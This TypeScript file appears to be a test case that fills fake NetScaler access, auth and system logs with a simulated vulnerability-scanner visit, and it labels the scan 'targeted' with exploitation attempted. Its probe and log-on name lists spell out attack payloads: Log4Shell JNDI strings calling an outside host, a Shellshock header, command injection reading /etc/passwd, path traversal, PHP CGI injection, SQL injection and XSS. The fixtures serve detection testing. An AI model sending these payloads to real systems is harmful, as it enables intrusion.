import { type Appliance, withLines } from '../appliance/appliance.ts';
import { accessLine, errorLine, nsLine, syslogLine } from '../appliance/lines.ts';
import { HOUR } from '../appliance/setting.ts';
import { stockAppliance } from '../appliance/stock.ts';
import type { Case } from './case.ts';

/** The probes of products that look for weaknesses: refused, or answered with a page that answers everything. */
const probes: readonly (readonly [request: string, status: number, agent?: string])[] = [
  ['GET /', 302, 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)'],
  ['GET /nessus-check/sample.php', 404],
  ['GET /logon/LogonPoint/nessus_sample.php', 404],
  ['GET /phpinfo.php', 404],
  ['GET /info.php', 404],
  ['GET /wp-login.php', 404],
  ['GET /.git/config', 404],
  ['GET /.htaccess', 403],
  ['GET /admin.php?cmd=id', 404],
  ['GET /shell.php?cmd=cat%20/etc/passwd', 404],
  ['POST /cgi-bin/php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', 404],
  ['GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400],
  ['GET /vpn/../vpns/cfg/smb.conf', 403],
  ['GET /vpn/%2E%2E/%76pns/portal/scripts/newbm.pl', 403],
  ['GET /vpns/portal/scripts/newbm.pl', 403],
  [
    'GET /logon/LogonPoint/tmindex.html?x=$' + '{jndi:ldap://198.51.100.70/a}',
    200,
    '$' + '{jndi:ldap://198.51.100.70/b}',
  ],
  ['GET /vpn/index.html', 200, '() { :;}; echo sample: $(id)'],
  ['GET /vpn/index.html?file=../../../../nsconfig/ns.conf', 200],
  ['GET /vpn/index.html?cmd=whoami', 200],
  ['GET /vpn/index.html?a=%3C%3Fphp%20echo(1)%3B%3F%3E', 200],
  ['GET /pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1', 404],
  ['GET /menu/ss?sid=nsroot&username=nsroot&force_setup=1', 404],
  ['GET /rapi/filedownload?filter=path:%2Fnsconfig%2Fns.conf', 401],
  ['GET /gwtest/formssso?event=start&target=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', 404],
  ['GET /oauth/idp/.well-known/openid-configuration', 404],
  ['GET /oauth/rp/.well-known/openid-configuration', 404],
  ['POST /p/u/doAuthentication.do', 200, 'Mozilla/5.0 (compatible; Qualys/1.0)'],
  ['POST /p/u/doAuthentication.do', 200, 'Mozilla/5.0 (compatible; Qualys/1.0)'],
  ['GET /wsfed/passive?wctx', 404],
  ['GET /cgi/GetAuthMethods', 404],
  ['GET /saml/login', 404],
  ['GET /cgi/logout?SAMLResponse=AAAA', 302],
  ['GET /vpn/theme/x.php', 404],
  ['GET /logon/LogonPoint/custom/.ctxs.receiver', 404],
  ['GET /logon/LogonPoint/index.php', 404],
  ['GET /vpn/media/nsginstaller64.deb', 404],
  ['GET /menu/neo', 404],
  ['PUT /sample-qualys.txt', 405],
  ['TRACE /', 405],
  ['OPTIONS *', 200],
  ['CONNECT 192.0.2.1:25', 405],
];

/** Names that such products try at the log-on page. */
const names: readonly string[] = [
  'admin',
  "admin' OR '1'='1",
  'nsroot',
  '$(id)',
  ';id;',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '$' + '{jndi:ldap://198.51.100.70/c}',
  'A'.repeat(300),
  '%s%s%s%n',
  '`ping -c 1 198.51.100.70`',
];

export function vulnerabilityScan(before: Appliance): Appliance {
  const { setting } = before;
  const start = setting.collected - 9 * HOUR;
  const scanner = '203.0.113.241';
  const agent = 'Mozilla/5.0 (compatible; Nessus SOAP)';
  return withLines(before, {
    '/var/log/httpaccess-vpn.log': probes.map(([request, status, own], index) =>
      accessLine(setting, {
        at: start + index * 700,
        client: scanner,
        request,
        status,
        bytes: 315,
        agent: own ?? agent,
      }),
    ),
    // Inside, the same product looks at the management address.
    '/var/log/httpaccess.log': probes.map(([request, status, own], index) =>
      accessLine(setting, {
        at: start + HOUR + index * 700,
        client: '192.0.2.99',
        server: setting.nsip,
        request,
        status: status === 200 ? 404 : status,
        bytes: 315,
        agent: own ?? agent,
      }),
    ),
    '/var/log/httperror.log': ['phpinfo.php', 'shell.php', 'admin.php', 'cgi-bin/curl', 'wget'].map((name, index) =>
      errorLine(
        setting,
        start + HOUR + index * 900,
        'core:info',
        `[client 192.0.2.99:51000] AH00128: File does not exist: /netscaler/ns_gui/${name}`,
        61_310,
      ),
    ),
    '/var/log/ns.log': [
      ...names.flatMap((user, index) => [
        nsLine(setting, {
          at: start + index * 3000,
          what: 'AAA LOGIN_FAILED',
          payload: `User ${user} - Client_ip ${scanner} - Failure_reason "External authentication server denied access" - Browser ${agent}`,
        }),
        nsLine(setting, {
          at: start + index * 3000,
          what: 'AAA Message',
          payload: `"Authentication is rejected for ${user} (client ip : ${scanner}  , vserver ip: ${setting.gateway}   ), extended error, if any : "`,
        }),
      ]),
      ...Array.from({ length: 30 }, (_, index) =>
        nsLine(setting, {
          at: start + index * 400,
          what: 'SSLLOG SSL_HANDSHAKE_FAILURE',
          payload: `SPCBId ${80_000 + index} - ClientIP ${scanner} - ClientPort ${52_000 + index} - VserverServiceIP ${setting.gateway} - VserverServicePort 443 - ClientVersion ${index % 3 === 0 ? 'DTLSv1.0' : 'TLSv1.0'} - CipherSuite "Unavailable" - Session New - Reason "Fatal alert received"`,
        }),
      ),
    ],
    '/var/log/nsvpn.log': names.map((user, index) =>
      syslogLine(
        setting,
        start + index * 3000,
        'local5.info',
        'nsaaad[1295]',
        `process_kernel_socket: call to authenticate user :${user}, vsid :1234, userlen ${user.length}`,
      ),
    ),
    '/var/log/auth.log': ['root', 'admin', 'nsroot', 'guest', 'cisco'].map((user, index) =>
      syslogLine(
        setting,
        start + HOUR + index * 2000,
        'auth.info',
        `sshd[${5200 + index}]`,
        `Failed password for ${user === 'nsroot' ? '' : 'invalid user '}${user} from 192.0.2.99 port ${50_300 + index} ssh2`,
      ),
    ),
  });
}

export const vulnerabilityScanner: Case = {
  name: 'targeted.vulnerability-scanner',
  title:
    'Two visits of a product that looks for weaknesses, from outside and from inside; some probes were answered with an ordinary page',
  sources: ['https://github.com/martclau/netscaler-ir-collector'],
  appliance: () => vulnerabilityScan(stockAppliance()),
  verdicts: ['targeted'],
  questions: { exploitation: 'attempted' },
  plants: [],
};
